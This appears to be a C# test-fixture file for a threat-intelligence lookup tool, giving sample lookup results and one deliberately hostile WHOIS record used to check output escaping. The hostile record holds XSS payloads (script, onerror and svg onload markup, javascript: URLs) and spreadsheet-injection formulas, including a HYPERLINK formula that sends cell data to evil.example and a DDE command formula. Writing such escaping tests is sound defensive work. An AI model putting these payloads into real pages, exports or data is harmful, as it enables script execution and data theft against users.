using KumaTip.Core.Api;
using KumaTip.Core.Api.Sections;
using KumaTip.Core.Indicators;
using KumaTip.Core.Lookups;

namespace KumaTip.Core.Tests.Reports;

/// <summary>Results as the lookup service builds them, one per indicator type, and one whose WHOIS an attacker wrote.</summary>
public static class ReportSamples
{
    public static readonly DateTime Received = new(2026, 11, 28, 9, 15, 0, DateTimeKind.Utc);

    public const string ScriptPayload = "<script>alert(1)</script>";
    public const string AttributePayload = "\"><img src=x onerror=alert(1)>";
    public const string JavascriptUrl = "javascript:alert(document.domain)";
    public const string HyperlinkFormula = "=HYPERLINK(\"http://evil.example/x?\"&A1,\"Click\")";
    public const string CommandFormula = "+cmd|' /C calc'!A0";
    public const string ArithmeticFormula = "-2+3";
    /// <summary>Would set window.kumatipPwned if any of it ever ran; the browser test checks that it stays unset.</summary>
    public const string MarkerScript = "<script>window.kumatipPwned = 'script'</script>";
    public const string MarkerImage = "\"'><img src=x onerror=\"window.kumatipPwned='img';alert('img')\">";
    public const string MarkerSvg = "<svg onload=\"window.kumatipPwned='svg'\"></svg>";
    public const string SumFormula = "@SUM(1+1)*cmd|' /C calc'!A0";

    public static IReadOnlyList<TipLookupResult> All() => new[] { Domain(), Ip(), Hash(), Url(), NotFound(), Hostile() };

    public static TipLookupResult Domain() => new()
    {
        Indicator = "badlogin-secure.com",
        Kind = TipIndicatorType.Domain,
        Found = true,
        ZoneValue = TipZone.Red,
        Status = "Dangerous",
        Categories = new[] { "CATEGORY_PHISHING", "CATEGORY_MALWARE" },
        ReceivedAt = Received,
        TaskId = 12,
        Sections = new[] { "DomainGeneralInfo", "DomainWhoIsInfo", "Zone" },
        MaxRecords = 10,
        PortalUrl = "https://opentip.kaspersky.com/badlogin-secure.com/",
        GeneralInfo = new DomainGeneralInfo
        {
            Domain = "badlogin-secure.com",
            HitsCount = 2048,
            FirstSeen = new DateTimeOffset(2026, 10, 2, 6, 0, 0, TimeSpan.Zero),
            FilesCount = 3,
            UrlsCount = 17,
            Ipv4Count = 2,
            Categories = new() { "CATEGORY_PHISHING", "CATEGORY_MALWARE" },
            CategoriesWithZone = new() { new() { Name = "CATEGORY_PHISHING", Zone = "Red" }, new() { Name = "CATEGORY_MALWARE", Zone = "Red" } },
        },
        WhoIs = new DomainWhoIsInfo
        {
            DomainName = "badlogin-secure.com",
            Created = new DateTimeOffset(2026, 9, 30, 0, 0, 0, TimeSpan.Zero),
            Updated = new DateTimeOffset(2026, 10, 1, 0, 0, 0, TimeSpan.Zero),
            Expires = new DateTimeOffset(2027, 9, 30, 0, 0, 0, TimeSpan.Zero),
            NameServers = new() { "ns1.cheap-dns.example", "ns2.cheap-dns.example" },
            DomainStatus = new() { "clientTransferProhibited" },
            RegistrationOrganization = "Privacy Protect LLC",
            Registrar = new Registrar { Info = "NameCheap, Inc.", IanaId = "1068", Email = "abuse@namecheap.com" },
            Contacts = new() { new() { ContactType = "registrant", Organization = "Privacy Protect LLC", CountryCode = "US", Email = "contact@privacyprotect.example" } },
        },
        Raw = "{\"Zone\":\"Red\",\"DomainGeneralInfo\":{\"Domain\":\"badlogin-secure.com\",\"HitsCount\":2048}}",
    };

    public static TipLookupResult Ip() => new()
    {
        Indicator = "185.220.101.4",
        Kind = TipIndicatorType.IPv4,
        Found = true,
        ZoneValue = TipZone.Orange,
        Status = "Not trusted",
        Categories = new[] { "CATEGORY_TOR_EXIT_NODE" },
        ReceivedAt = Received.AddMinutes(1),
        FromCache = true,
        TaskId = 12,
        PortalUrl = "https://opentip.kaspersky.com/185.220.101.4/",
        GeneralInfo = new IpGeneralInfo
        {
            Ip = "185.220.101.4",
            ThreatScore = 68,
            CountryCode = "DE",
            Status = "known",
            HitsCount = 91234,
            FirstSeen = new DateTimeOffset(2019, 3, 1, 0, 0, 0, TimeSpan.Zero),
            CategoriesWithZone = new() { new() { Name = "CATEGORY_TOR_EXIT_NODE", Zone = "Orange" } },
        },
        WhoIs = new IpWhoIs
        {
            Net = new IpNet { RangeStart = "185.220.101.0", RangeEnd = "185.220.101.255", Name = "TOR-EXIT", Description = "Tor exit relays" },
            Asn = new() { new() { Number = "60729", Description = "ZWIEBELFREUNDE" } },
        },
        Raw = "{\"Zone\":\"Orange\"}",
    };

    public static TipLookupResult Hash() => new()
    {
        Indicator = "44d88612fea8a8f36de82e1278abb02f",
        Kind = TipIndicatorType.Md5,
        Found = true,
        ZoneValue = TipZone.Red,
        Status = "Malware",
        ReceivedAt = Received.AddMinutes(2),
        PortalUrl = "https://opentip.kaspersky.com/44d88612fea8a8f36de82e1278abb02f/",
        GeneralInfo = new FileGeneralInfo
        {
            Md5 = "44d88612fea8a8f36de82e1278abb02f",
            Sha1 = "3395856ce81f2b7382dee72602f798b642f14140",
            Sha256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
            Type = "Txt",
            Size = 68,
            Signer = "Unsigned",
            HitsCount = 100000,
            FirstSeen = new DateTimeOffset(2006, 1, 1, 0, 0, 0, TimeSpan.Zero),
            LastSeen = new DateTimeOffset(2026, 11, 27, 0, 0, 0, TimeSpan.Zero),
        },
        Detections = new[] { new DetectionInfo { DetectionName = "EICAR-Test-File", Zone = "Red", LastDetectDate = new DateTimeOffset(2026, 11, 27, 0, 0, 0, TimeSpan.Zero) } },
        Raw = "{\"Zone\":\"Red\"}",
    };

    public static TipLookupResult Url() => new()
    {
        Indicator = "http://update-check.example/login.php",
        Kind = TipIndicatorType.Url,
        Found = true,
        ZoneValue = TipZone.Yellow,
        Status = "Adware and other",
        Categories = new[] { "CATEGORY_ADWARE" },
        ReceivedAt = Received.AddMinutes(3),
        PortalUrl = "https://opentip.kaspersky.com/http%3A%2F%2Fupdate-check.example%2Flogin.php/",
        GeneralInfo = new UrlGeneralInfo { Url = "http://update-check.example/login.php", Host = "update-check.example", FilesCount = 1, Ipv4Count = 1 },
        Raw = "{\"Zone\":\"Yellow\"}",
    };

    public static TipLookupResult NotFound() => new()
    {
        Indicator = "quiet-intranet.example",
        Kind = TipIndicatorType.Domain,
        Found = false,
        ZoneValue = TipZone.Grey,
        Status = "Not categorized",
        ReceivedAt = Received.AddMinutes(4),
        PortalUrl = "https://opentip.kaspersky.com/quiet-intranet.example/",
        Raw = "",
    };

    /// <summary>A domain whose registrant filled WHOIS with script, markup, a javascript: URL and spreadsheet formulas.</summary>
    public static TipLookupResult Hostile() => new()
    {
        Indicator = "pwn-whois.example",
        Kind = TipIndicatorType.Domain,
        Found = true,
        ZoneValue = TipZone.Green,
        Status = ScriptPayload,
        Categories = new[] { HyperlinkFormula, CommandFormula },
        ReceivedAt = Received.AddMinutes(5),
        PortalUrl = JavascriptUrl,
        GeneralInfo = new DomainGeneralInfo
        {
            Domain = "pwn-whois.example",
            CategoriesWithZone = new() { new() { Name = AttributePayload, Zone = "Green" } },
        },
        WhoIs = new DomainWhoIsInfo
        {
            DomainName = "pwn-whois.example",
            NameServers = new() { ScriptPayload, MarkerSvg, "ns1.pwn-whois.example" },
            RegistrationOrganization = ArithmeticFormula,
            Registrar = new Registrar { Info = SumFormula, Email = AttributePayload },
            Contacts = new()
            {
                new() { ContactType = "registrant", Name = ScriptPayload, Organization = AttributePayload, Email = JavascriptUrl, Address = "\tTabbed", City = "\rCarriage" },
                new() { ContactType = "admin", Name = MarkerScript, Organization = MarkerImage, Phone = "<a href=\"javascript:window.kumatipPwned='a'\">call</a>", Email = "<link rel=stylesheet href=http://127.0.0.1:9/x.css>" },
            },
        },
        Raw = "{\"Zone\":\"Green\",\"DomainWhoIsInfo\":{\"Contacts\":[{\"Name\":\"<script>alert(1)</script>\"}]}}",
    };
}
